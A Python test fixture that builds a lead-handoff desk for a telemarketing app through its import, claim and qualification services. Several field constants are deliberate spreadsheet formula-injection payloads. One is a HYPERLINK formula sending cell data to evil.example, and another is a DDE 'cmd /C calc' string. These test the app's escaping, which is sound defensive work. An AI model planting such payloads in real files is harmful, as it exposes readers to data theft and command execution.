"""A desk with leads ready for handoff, built through the real import, claim and
qualification services; the review (approval, a correction) and the meeting are written to
the store as those services store them.

Lead "full" is filled in everywhere, with Cyrillic, commas, semicolons, quotes, newlines
and cells a spreadsheet would run as formulas; "plain" is qualified but only submitted;
"other" is approved and has no meeting.
"""

from __future__ import annotations

import csv
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from tmdesk.domain.scripts import Person
from tmdesk.services.calls import claim_next_lead
from tmdesk.services.importing import import_call_list
from tmdesk.services.qualification import DEFAULT_SCRIPT_KEY, find_script, submit_qualification
from tmdesk.services.users import add_user
from tmdesk.store.fields import utc_text
from tmdesk.store.models import Lead, Meeting, Qualification, Specialist

# Wednesday 10:00 in Moscow, 14:00 in Novosibirsk
NOW = datetime(2026, 11, 25, 7, 0, tzinfo=UTC)
REVIEWED = NOW + timedelta(hours=2)
# Friday 10:00–11:00 in Novosibirsk (UTC+7)
MEETING_START = datetime(2026, 11, 27, 3, 0, tzinfo=UTC)
MEETING_END = MEETING_START + timedelta(hours=1)

HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?q="&A1;"Ромашка, ООО")'
CONTACT = 'Пётр "Петя" Иванов, младший'
POSITION = "+Генеральный; директор"
COMMENT = '@SUM(1+1)\nвторая строка; с ";" и ","'
INDUSTRY = "-2+3 машиностроение"
ANSWER_COMMENT = 'Новый цех в марте; "срочно", потом\nвторая фаза'
NOTE = "=1+2 ЛПР готов, перезвонить в 15:00; «КП» ждут\nсекретарь: Анна"
PLACE = "Новосибирск, Красный проспект, 1; офис 5"
AGENDA = "＝cmd|' /C calc'!A0 показать КП, \"сроки\"\nи бюджет"

GOOD = {
    "right_person": "self",
    "activity": "manufacturing",
    "employees": 250,
    "district": "cfo",
    "current_solution": "none",
    "need": True,
    "timeline": date(2027, 1, 15),
    "budget": "approved",
    "budget_amount": 2000,
    "decision_process": ("director", "chief_engineer"),
    "meeting_agreed": True,
    "comment": ANSWER_COMMENT,
}
PEOPLE = [
    Person(
        "decision_maker",
        "Иван Петров",
        "Генеральный директор",
        "8 (495) 100-00-09",
        "i.petrov@example.ru",
    ),
    Person("influencer", "Ольга Сидорова", "Главный инженер, ОГМ", "+7 916 123-45-67 доб. 12", ""),
]
ATTENDEES = [
    {
        "name": "Иван Петров",
        "role": "decision_maker",
        "position": "Генеральный директор",
        "phone_e164": "+74951000009",
        "email": "i.petrov@example.ru",
    },
    {
        "name": "Ольга Сидорова",
        "role": "influencer",
        "position": "Главный инженер",
        "phone_e164": "+79161234567",
        "email": "",
    },
]


@dataclass(frozen=True)
class HandoffDesk:
    settings: object
    agent_id: int
    supervisor_id: int
    specialist_id: int
    full: int  # lead ids
    plain: int
    other: int
    meeting_id: int
    qualification_id: int


def _import(tmp_path: Path, supervisor: int) -> dict[str, int]:
    path = tmp_path / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(
            [
                "Компания",
                "Контакт",
                "Должность",
                "Телефон",
                "Email",
                "Город",
                "Регион",
                "ИНН",
                "Сайт",
                "Комментарий",
                "Отрасль",
            ]
        )
        writer.writerow(
            [
                HOSTILE_COMPANY,
                CONTACT,
                POSITION,
                "8 (383) 210-00-01 доб. 12, +7 913 000-00-02",
                "ceo@romashka.example",
                "Новосибирск",
                "Новосибирская обл.",
                "5401000001",
                "romashka.example",
                COMMENT,
                INDUSTRY,
            ]
        )
        writer.writerow(
            [
                "ООО Лютик",
                "Анна Смирнова",
                "Директор",
                "8 (495) 200-00-02",
                "",
                "",
                "Москва",
                "",
                "",
                "",
                "",
            ]
        )
        writer.writerow(
            [
                "АО Василёк",
                "Олег Орлов",
                "Директор",
                "8 (495) 200-00-03",
                "",
                "",
                "Москва",
                "",
                "",
                "",
                "",
            ]
        )
    report = import_call_list(path, list_name="Сибирь; осень", user_id=supervisor)
    return {
        lead.company: lead.id for lead in Lead.select().where(Lead.call_list == report.call_list_id)
    }


def make_handoff_desk(workspace, tmp_path: Path) -> HandoffDesk:
    settings = workspace.settings
    anna = add_user("anna", "Анна Котова").id
    olga = add_user("olga", "Ольга Дымова", "supervisor").id
    leads = _import(tmp_path, olga)
    script = find_script(DEFAULT_SCRIPT_KEY)
    qualifications = {}
    for step in range(3):
        now = NOW + timedelta(minutes=15 * step)
        lead_id = claim_next_lead(anna, settings, now=now).lead_id
        note = NOTE if lead_id == leads[HOSTILE_COMPANY] else ""
        done = submit_qualification(
            lead_id, anna, settings, script, GOOD, PEOPLE, note=note, now=now + timedelta(minutes=5)
        )
        assert done.status == "qualified"
        qualifications[lead_id] = done.qualification_id
    full, plain, other = leads[HOSTILE_COMPANY], leads["ООО Лютик"], leads["АО Василёк"]
    # the supervisor corrects one answer and approves "full" and "other"
    Qualification.update(
        status="approved",
        reviewed_by=olga,
        reviewed_at=REVIEWED,
        corrections=[
            {
                "field": "employees",
                "before": "250",
                "after": "300",
                "by": "olga",
                "at": utc_text(REVIEWED),
            }
        ],
    ).where(Qualification.id == qualifications[full]).execute()
    Qualification.update(status="approved", reviewed_by=olga, reviewed_at=REVIEWED).where(
        Qualification.id == qualifications[other]
    ).execute()
    specialist = Specialist.create(
        name="Игорь Васильев",
        email="i.vasiliev@vendor.example",
        phone_e164="+73832000000",
        time_zone="Asia/Novosibirsk",
    )
    meeting = Meeting.create(
        lead=full,
        specialist=specialist,
        qualification=qualifications[full],
        starts_at=MEETING_START,
        ends_at=MEETING_END,
        kind="on_site",
        place=PLACE,
        agenda=AGENDA,
        booked_by=anna,
        booked_at=NOW + timedelta(minutes=6),
        attendees=ATTENDEES,
    )
    return HandoffDesk(
        settings, anna, olga, specialist.id, full, plain, other, meeting.id, qualifications[full]
    )
